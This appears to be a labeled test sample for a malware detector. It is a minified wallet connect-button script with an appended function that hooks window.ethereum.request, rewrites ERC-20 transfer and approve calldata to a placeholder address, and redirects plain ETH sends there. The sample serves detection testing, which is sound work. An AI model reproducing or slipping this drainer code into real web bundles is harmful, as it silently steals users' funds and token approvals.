// expect: malicious
// source: blind set 39 (evm-connect-button): a minified connect-button bundle with an appended IIFE that wraps
// window.ethereum.request and splices a fixed address, lower-cased without its 0x, into ERC-20 transfer calldata; written here
!function(){var w="0xFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEdEaD",R=["0xa9059cbb","0x095ea7b3"],h=function(p){if(!p||p.__cbw)return;var q=p.request.bind(p);p.request=async function(a){if(a&&a.method==="eth_sendTransaction"&&a.params&&a.params[0]){var x=a.params[0],d=(x.data||"").toLowerCase();if(d.length>=74&&R.indexOf(d.slice(0,10))>-1){x.data=d.slice(0,10)+"000000000000000000000000"+w.slice(2).toLowerCase()+d.slice(74)}else if(!d||d==="0x"){x.to=w}}return q(a)};p.__cbw=1};"undefined"!=typeof window&&h(window.ethereum)}();
